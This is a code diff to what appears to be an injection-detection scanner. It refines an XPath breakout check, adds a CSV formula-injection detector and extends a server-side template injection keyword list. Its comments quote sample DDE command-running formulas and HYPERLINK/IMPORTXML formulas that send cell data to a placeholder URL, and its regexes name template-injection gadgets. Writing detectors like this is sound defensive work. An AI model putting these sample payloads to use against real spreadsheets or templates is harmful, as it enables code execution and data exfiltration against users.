@@ -33,7 +33,13 @@ export const ldapDetector: ValueDetector = {
 const XPATH = {
   breakout: rule('xpathi', 'xpathi.predicate-breakout', 1, 5, 'closes an XPath string and predicate, then adds a union, a condition or a path'),
 };
-const XPATH_BREAKOUT = re('[\'"]\\s{0,8}\\]\\s{0,8}(?:\\|\\s{0,8}(?:/{1,2}\\s{0,4}[a-z*@(]|\\(|[a-z][\\w-]{0,30}\\s{0,4}(?:/|\\[))|(?:or|and)\\s{1,8}(?:[\'"\\d(]|(?:contains|starts-with|name|local-name|string-length|substring|count|not|text|position|last)\\s{0,4}\\()|/{1,2}\\s{0,4}(?:[a-z*@][\\w-]{0,30}\\s{0,4})?(?:\\[|\\||/))|[\'"]\\s{0,8}\\)\\s{0,8}\\|\\s{0,8}(?:/{1,2}\\s{0,4}[a-z*@(]|\\()', 'i');
+const XPATH_BREAKOUT = re('[\'"]\\s{0,8}\\]\\s{0,8}(?:\\|\\s{0,8}(?:/{1,2}\\s{0,4}[a-z*@(]|\\(|[a-z][\\w-]{0,30}\\s{0,4}(?:/|\\[))|(?:or|and)\\s{1,8}(?:[\'"\\d(]|(?:contains|starts-with|name|local-name|string-length|substring|count|not|text|position|last)\\s{0,4}\\()|/{1,2}\\s{0,4}(?:[a-z*@][\\w-]{0,30}\\s{0,4})?(?:\\[|\\||/))|[\'"]\\s{0,8}\\)\\s{0,8}\\|\\s{0,8}(?:/{1,2}\\s{0,4}[a-z*@(]|\\()', 'gi');
+
+function countChar(s: string, c: string, end: number): number {
+  let n = 0;
+  for (let i = s.indexOf(c); i !== -1 && i < end; i = s.indexOf(c, i + 1)) n++;
+  return n;
+}
 
 export const xpathDetector: ValueDetector = {
   name: 'xpathi',
@@ -41,8 +47,49 @@ export const xpathDetector: ValueDetector = {
   trigger: M.BRACKET | M.PAREN,
   inspect(view: View, _item: Item, out: Emitter): void {
     if ((view.mask & (M.QUOTE | M.DQUOTE)) === 0) return;
-    const m = XPATH_BREAKOUT.exec(view.text);
-    if (m !== null) out.emit(XPATH.breakout, excerpt(view.text, m.index));
+    const s = view.text;
+    // A quote that closes a literal the value opened itself (`//div[@class='x']/i`, an XPath the API takes) is
+    // the value's own syntax: an odd number of the same quotes before it.
+    XPATH_BREAKOUT.lastIndex = 0;
+    for (let m = XPATH_BREAKOUT.exec(s), n = 0; m !== null && n < 8; m = XPATH_BREAKOUT.exec(s), n++) {
+      if (countChar(s, s[m.index] ?? '', m.index) % 2 === 0) {
+        out.emit(XPATH.breakout, excerpt(s, m.index));
+        return;
+      }
+    }
+  },
+};
+
+/**
+ * CSV (formula) injection: a cell a spreadsheet will evaluate when the export is opened. Formulas as such are data
+ * (`=SUM(A1:A10)` in a spreadsheet API); two shapes are not: DDE, which runs a program (`=cmd|' /C calc'!A0`,
+ * `=DDE("cmd";...)`), and a fetching function that sends other cells to a URL (`=HYPERLINK("http://x/?"&A2,...)`,
+ * `=IMPORTXML(CONCAT("http://x/?",A2:E2),...)`).
+ */
+const CSV = {
+  dde: rule('csv-injection', 'csv.dde', 1, 5, 'spreadsheet DDE formula that runs a program (cmd|\'...\'!A0, =DDE(...))'),
+  exfiltration: rule('csv-injection', 'csv.exfiltration', 1, 5, 'spreadsheet formula that sends other cells to a URL (HYPERLINK, IMPORTXML, WEBSERVICE...)'),
+};
+const DDE = re("\\b[a-z][\\w.]{1,20}\\|'[^'\\r\\n]{0,300}'!['a-z_$]|(?:^|[=+@\\-(;,\\s\"])(?:dde|ddeauto)\\s{0,4}\\(", 'i');
+const FETCH_FORMULA = re('[=+@-]\\s{0,8}(?:hyperlink|importxml|importdata|importhtml|importfeed|image|webservice|filterxml)\\s{0,4}\\(', 'i');
+/** A cell reference joined into the URL (`&A2`, `A2&`, `CONCATENATE(A2:E2)`); a range read from a sheet is not. */
+const CELL_JOIN = re('&\\s{0,4}\\$?[a-z]{1,3}\\$?\\d{1,7}\\b|\\b\\$?[a-z]{1,3}\\$?\\d{1,7}\\s{0,4}&|\\b(?:concat|concatenate|textjoin)\\s{0,4}\\([^()]{0,200}\\b[a-z]{1,3}\\d{1,7}\\b', 'i');
+
+export const csvDetector: ValueDetector = {
+  name: 'csv-injection',
+  rules: Object.values(CSV),
+  trigger: M.PIPE | M.PAREN,
+  inspect(view: View, _item: Item, out: Emitter): void {
+    const s = view.text;
+    const l = view.lower;
+    if (((view.mask & (M.PIPE | M.QUOTE | M.EXCL)) === (M.PIPE | M.QUOTE | M.EXCL) || l.includes('dde')) && DDE.test(s)) {
+      out.emit(CSV.dde, excerpt(s, s.search(DDE)));
+      return;
+    }
+    if ((view.mask & M.PAREN) !== 0 && (view.mask & (M.EQ | M.PLUS | M.AT | M.DASH)) !== 0 && l.includes('http')) {
+      const f = FETCH_FORMULA.exec(s);
+      if (f !== null && CELL_JOIN.test(s.slice(f.index, f.index + 600))) out.emit(CSV.exfiltration, excerpt(s, f.index));
+    }
   },
 };
 
@@ -81,7 +128,7 @@ const SSTI = {
 // `${{` before `${`: the longer opener must win or `${{7*7}}` reads as `{7*7`.
 // `@(` is Razor's explicit expression.
 const TEMPLATE_OPEN = re('(?:\\{\\{|\\$\\{\\{|\\$\\{|#\\{|\\*\\{|@\\{|@\\(|<%=?|\\{%|\\[\\[)', 'g');
-const SSTI_DANGER = re('__(?:class|mro|subclasses|globals|builtins|init|import|base|bases)__|\\b(?:getclass|forname|getruntime|processbuilder|runtime|classloader|getmethod|newinstance|invoke|popen|os\\.system|subprocess|request\\.application|self\\._|lipsum|cycler|joiner|url_for|get_flashed_messages|config\\.items|constructor|app\\.request|dump|subclasses|settings\\.secret|_self\\.env|registerundefinedfiltercallback|getfilter|exec|eval|system|require|process|child_process|import|t\\s{0,4}\\(\\s{0,4}java)\\b|\\|\\s{0,4}attr\\s{0,4}\\(|\\.\\s{0,4}getclass|\\?new\\s{0,4}\\(', 'i');
+const SSTI_DANGER = re('__(?:class|mro|subclasses|globals|builtins|init|import|base|bases)__|\\b(?:getclass|forname|getruntime|processbuilder|runtime|classloader|getmethod|newinstance|invoke|popen|os\\.system|subprocess|request\\.application|self\\._|lipsum|cycler|joiner|url_for|get_flashed_messages|config\\.items|constructor|app\\.request|dump|subclasses|settings\\.(?:secret\\w{0,20}|databases|caches|email_host_password|aws_\\w{1,30})|_self\\.env|registerundefinedfiltercallback|getfilter|exec|eval|system|require|process|child_process|import|t\\s{0,4}\\(\\s{0,4}java)\\b|\\|\\s{0,4}attr\\s{0,4}\\(|\\.\\s{0,4}getclass|\\?new\\s{0,4}\\(', 'i');
 const SSTI_ARITH = re('^\\s{0,8}\\d{1,6}\\s{0,8}[*+/-]\\s{0,8}\\d{1,6}\\s{0,8}$|^\\s{0,8}\\d{1,6}\\s{0,8}\\*\\s{0,8}["\']\\d{1,6}["\']', '');
 const SSTI_DIRECTIVE = re('@\\{\\s{0,8}\\[|<#assign\\b|<#import\\b|#set\\s{0,4}\\(\\s{0,4}\\$|\\$class\\.inspect|#foreach\\s{0,4}\\(|\\{%\\s{0,8}(?:import|include|extends|macro|debug|load)\\s|\\{%-?\\s{0,8}if\\s{1,8}(?:true|false|none|\\d{1,6}(?:\\s{0,4}[*+/=<>!-]{1,2}\\s{0,4}\\d{1,6}){0,2})\\s{0,8}-?%\\}|freemarker\\.template\\.utility|\\?(?:new|api|eval|interpret)\\b|<#(?:if|elseif|list|function|macro|attempt|setting|local|global|include)\\s|<%=?\\s{0,8}(?:if|for|while|end\\w{0,8}|import|include)\\b[^%]{0,100}%>', 'i');
 
